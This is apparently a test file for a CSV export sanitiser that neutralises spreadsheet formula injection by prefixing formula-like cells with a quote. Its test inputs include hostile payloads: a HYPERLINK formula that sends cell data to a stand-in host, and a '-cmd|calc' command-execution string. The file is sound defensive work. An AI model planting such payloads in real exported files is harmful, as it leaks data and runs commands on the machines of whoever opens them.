import { parse } from 'csv-parse/sync';
import { neutraliseCell } from './neutralise-cell';
import { writeCsv } from './write-csv';

describe('neutraliseCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.invalid/?d="&A1,"click")',
      `'=HYPERLINK("http://evil.invalid/?d="&A1,"click")`,
    ],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['+1+1', `'+1+1`],
    ['-1+1', `'-1+1`],
    ['-cmd|calc', `'-cmd|calc`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('prefixes a cell that starts like a formula: %j', (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected);
  });

  it.each(['plain text', 'a = b', 'x@example.invalid', '', ' =1+1', '2025-04-17', '12'])(
    'leaves other text alone: %j',
    (input) => expect(neutraliseCell(input)).toBe(input),
  );

  it('keeps numbers readable, negative ones included', () => {
    expect(neutraliseCell(-87)).toBe('-87');
    expect(neutraliseCell(-23.5)).toBe('-23.5');
    expect(neutraliseCell('-87')).toBe('-87');
    expect(neutraliseCell('-23.5')).toBe('-23.5');
    expect(neutraliseCell(12n)).toBe('12');
    expect(neutraliseCell(true)).toBe('true');
    expect(neutraliseCell(null)).toBe('');
  });
});

describe('writeCsv', () => {
  it('writes quoted RFC 4180 rows whose cells read back neutralised', () => {
    const csv = writeCsv(
      [
        ['a', '=1+1', -3],
        ['b', 'say "hi", then go', null],
      ],
      { header: ['k', 'text', 'n'] },
    );
    expect(parse(csv)).toEqual([
      ['k', 'text', 'n'],
      ['a', "'=1+1", '-3'],
      ['b', 'say "hi", then go', ''],
    ]);
    expect(csv.endsWith('\r\n')).toBe(true);
  });
});
